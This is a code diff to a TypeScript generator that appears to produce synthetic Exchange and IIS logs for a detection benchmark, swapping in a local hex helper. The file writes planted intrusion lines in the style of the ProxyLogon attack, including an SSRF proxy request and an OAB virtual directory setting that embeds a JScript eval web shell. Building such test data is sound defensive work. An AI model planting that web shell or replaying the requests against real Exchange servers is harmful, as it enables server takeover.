@@ -46,6 +46,13 @@ const stems = [
   "/autodiscover/autodiscover.xml",
 ] as const;
 
+/** Digits at once: a log of gigabytes needs hundreds of millions of them. */
+function hex(random: Random, digits: number): string {
+  return Math.floor(random.next() * 16 ** digits)
+    .toString(16)
+    .padStart(digits, "0");
+}
+
 /** Sign-in pages look like places where web shells lie, so they are read in full; an office asks for them now and then. */
 const signInShare = 0.005;
 
@@ -55,10 +62,10 @@ function stem(random: Random): string {
 
 function proxyLine(random: Random, stamp: string, planted: boolean): string {
   const user = random.whole(1, 400);
-  const id = `${random.hex(8)}-44f0-4cae-9acd-${random.hex(8)}0bad`;
+  const id = `${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)}0bad`;
   if (planted)
     return `${stamp},${id},15,2,792,3,,Ecp,mail.contoso.example,/ecp/y.js,,FBA,false,,,ServerInfo~a]@ex01.contoso.example:444/autodiscover/autodiscover.xml?#,python-requests/2.25.1,${plantedAddress},EX01,200,200,,POST,Proxy,ex01.contoso.example,15.02.0792.003,IntraForest,X-BEResource-Cookie,Server~ex01.contoso.example/autodiscover/autodiscover.xml~1942063431,38,,BeginRequest=${stamp};CorrelationID=<empty>;,\r\n`;
-  return `${stamp},${id},15,2,792,3,{${id}},Mapi,mail.contoso.example,${stem(random)},,Negotiate,true,CONTOSO\\user${user},,Sid~S-1-5-21-1004336348-1177238915-682003330-${1100 + user},${random.pick(agents)},198.51.100.${user % 250},EX01,200,200,,POST,Proxy,ex01.contoso.example,15.02.0792.003,IntraForest,WindowsIdentity,Database~${random.hex(8)}-5a1b-4c3d-8e4f-${random.hex(8)}~~2021-04-02T00:00:00~contoso.example~1,${random.whole(3, 400)},?MailboxId=${id}@contoso.example,BeginRequest=${stamp};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942061864;BeginGetResponse=${stamp};OnResponseReady=${stamp};EndGetResponse=${stamp};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${stamp};I32:ADS.C[DC01]=2;F:ADS.AL[DC01]=1.2;I32:ATE.C[DC01.contoso.example]=1,\r\n`;
+  return `${stamp},${id},15,2,792,3,{${id}},Mapi,mail.contoso.example,${stem(random)},,Negotiate,true,CONTOSO\\user${user},,Sid~S-1-5-21-1004336348-1177238915-682003330-${1100 + user},${random.pick(agents)},198.51.100.${user % 250},EX01,200,200,,POST,Proxy,ex01.contoso.example,15.02.0792.003,IntraForest,WindowsIdentity,Database~${hex(random, 8)}-5a1b-4c3d-8e4f-${hex(random, 8)}~~2021-04-02T00:00:00~contoso.example~1,${random.whole(3, 400)},?MailboxId=${id}@contoso.example,BeginRequest=${stamp};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942061864;BeginGetResponse=${stamp};OnResponseReady=${stamp};EndGetResponse=${stamp};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${stamp};I32:ADS.C[DC01]=2;F:ADS.AL[DC01]=1.2;I32:ATE.C[DC01.contoso.example]=1,\r\n`;
 }
 
 function webLine(random: Random, stamp: string, planted: boolean): string {
@@ -66,13 +73,13 @@ function webLine(random: Random, stamp: string, planted: boolean): string {
   if (planted)
     return `${when} W3SVC1 EX01 192.0.2.11 POST /ecp/y.js - 443 - ${plantedAddress} python-requests/2.25.1 - 200 0 0 38\r\n`;
   const user = random.whole(1, 400);
-  return `${when} W3SVC1 EX01 192.0.2.11 POST ${stem(random)} &CorrelationID=<empty>;&cafeReqId=${random.hex(8)}-44f0-4cae-9acd-${random.hex(8)}; 443 CONTOSO\\user${user} 198.51.100.${user % 250} Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13628;+Pro) - 200 0 0 ${random.whole(3, 400)}\r\n`;
+  return `${when} W3SVC1 EX01 192.0.2.11 POST ${stem(random)} &CorrelationID=<empty>;&cafeReqId=${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)}; 443 CONTOSO\\user${user} 198.51.100.${user % 250} Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13628;+Pro) - 200 0 0 ${random.whole(3, 400)}\r\n`;
 }
 
 function controlLine(random: Random, stamp: string, planted: boolean): string {
   if (planted)
-    return `${stamp},EX01,ECP.Request,"S:TIME=36;S:SID=${random.hex(8)};S:CMD=Set-OabVirtualDirectory.ExternalUrl='${plantedScript} language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""bench""],""unsafe"");}</script>'.Identity='982d48c8-0000-4000-8000-000000000000';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:ACTID=${random.hex(8)};S:RS=0;S:BLD=15.2.792.3"\r\n`;
-  return `${stamp},EX01,ECP.Request,S:TIME=${random.whole(20, 99)};S:SID=${random.hex(8)};S:CMD=Get-MailboxStatistics.Identity='user${random.whole(1, 400)}';S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${random.hex(12)};S:EX=;S:ACTID=${random.hex(8)}-44f0-4cae-9acd-${random.hex(8)};S:RS=0;S:BLD=15.2.792.3\r\n`;
+    return `${stamp},EX01,ECP.Request,"S:TIME=36;S:SID=${hex(random, 8)};S:CMD=Set-OabVirtualDirectory.ExternalUrl='${plantedScript} language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""bench""],""unsafe"");}</script>'.Identity='982d48c8-0000-4000-8000-000000000000';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:ACTID=${hex(random, 8)};S:RS=0;S:BLD=15.2.792.3"\r\n`;
+  return `${stamp},EX01,ECP.Request,S:TIME=${random.whole(20, 99)};S:SID=${hex(random, 8)};S:CMD=Get-MailboxStatistics.Identity='user${random.whole(1, 400)}';S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${hex(random, 12)};S:EX=;S:ACTID=${hex(random, 8)}-44f0-4cae-9acd-${hex(random, 8)};S:RS=0;S:BLD=15.2.792.3\r\n`;
 }
 
 const writers = { exchange_httpproxy: proxyLine, iis_w3c: webLine, exchange_ecp_server: controlLine } satisfies Record<
